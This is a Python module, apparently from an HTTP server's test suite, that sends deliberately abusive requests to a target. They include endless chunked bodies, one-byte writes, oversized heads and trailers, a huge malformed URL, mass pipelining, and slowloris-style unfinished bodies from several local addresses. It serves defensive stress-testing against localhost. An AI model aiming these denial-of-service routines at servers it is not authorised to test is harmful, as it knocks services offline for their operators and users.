"""Requests of attacks that no HTTP client sends: bodies in tiny chunks and reads, huge heads and trailers,
bodies that never end, many requests at once. Their `target` is an `attacks.Target`.
"""

import contextlib
import dataclasses
import itertools
import select
import socket
import time
from typing import Any

_CHUNKED = b"transfer-encoding: chunked\r\n\r\n"
LINES = b"".join(b"a:%04d\r\n" % i for i in range(8092)) + b"\r\n"  # of a head, 64 kB
TRAILERS = _CHUNKED + b"1\r\na\r\n0\r\n" + LINES
TARGET = "/" + "%41%C3%28" * 7000  # 63 kB
_ADDRESSES = 5  # 127.0.1.1 and on: of an attack that comes from several


def _head(target: Any, path: str) -> bytes:
    """The head of a request without its end and without a length."""
    lines = [f"POST {path} HTTP/1.1", f"host: localhost:{target.port}"]
    lines += [f"{name}: {value}" for name, value in target.headers.items()]
    return "\r\n".join([*lines, ""]).encode()


def _response(raw: socket.socket) -> str:
    """The status of a response that has arrived, and what follows it."""
    raw.settimeout(0.5)
    with contextlib.suppress(OSError):
        text = raw.recv(400).decode(errors="replace")
        return text.partition(" ")[2] or "closed"
    return "closed"


def repeat(target: Any, path: str, start: bytes, unit: bytes) -> str:
    """Sends a head and the start of a body, then a unit of it again and again until the server closes."""
    with contextlib.closing(target.connect()) as raw:
        try:
            raw.sendall(_head(target, path) + start)
            while time.monotonic() < target.end:
                raw.sendall(unit)
        except OSError:
            return _response(raw)
    return "open"


def chunks(target: Any, path: str, unit: bytes) -> str:
    """Sends a chunked body without an end: a unit of chunks again and again."""
    return repeat(target, path, _CHUNKED, unit)


def heads(target: Any, path: str, rest: bytes) -> str:
    """Sends a request again and again, on a new connection each time. rest: what follows its first lines."""
    status = ""
    while time.monotonic() < target.end:
        with contextlib.closing(target.connect()) as raw:
            with contextlib.suppress(OSError):
                raw.sendall(_head(target, path) + rest)
            status = _response(raw)
    return status


def tiny_reads(target: Any, path: str, _: bytes) -> str:
    """Sends a body in segments of one byte each, as fast as possible."""
    with contextlib.closing(target.connect()) as raw:
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            raw.sendall(_head(target, path) + b"content-length: 4000000\r\n\r\n")
            while time.monotonic() < target.end:
                raw.sendall(b"a")
        except OSError:
            return _response(raw)
    return "open"


def pipelined(target: Any, path: str, body: bytes) -> str:
    """Sends 1,000 requests on one connection before it reads a response."""
    head = _head(target, path) + b"content-length: %d\r\n\r\n" % len(body)
    with contextlib.closing(target.connect()) as raw:
        with contextlib.suppress(OSError):
            raw.sendall((head + body) * 1000)
            raw.shutdown(socket.SHUT_WR)
            while raw.recv(2**16):
                pass
    return "left"


_numbers = itertools.count()


def unfinished(target: Any, path: str, body: bytes) -> str:
    """Sends a request without the last byte of its body, from one of several addresses, and waits."""
    source = f"127.0.1.{1 + next(_numbers) % _ADDRESSES}"
    with contextlib.closing(dataclasses.replace(target, source=source).connect()) as raw:
        try:
            raw.sendall(_head(target, path) + b"content-length: %d\r\n\r\n" % len(body) + body[:-1])
        except OSError:
            return _response(raw)
        poll = select.poll()
        poll.register(raw, select.POLLIN | select.POLLRDHUP)
        seconds = max(0.0, target.end - time.monotonic())
        return _response(raw) if poll.poll(1e3 * seconds) else "open"
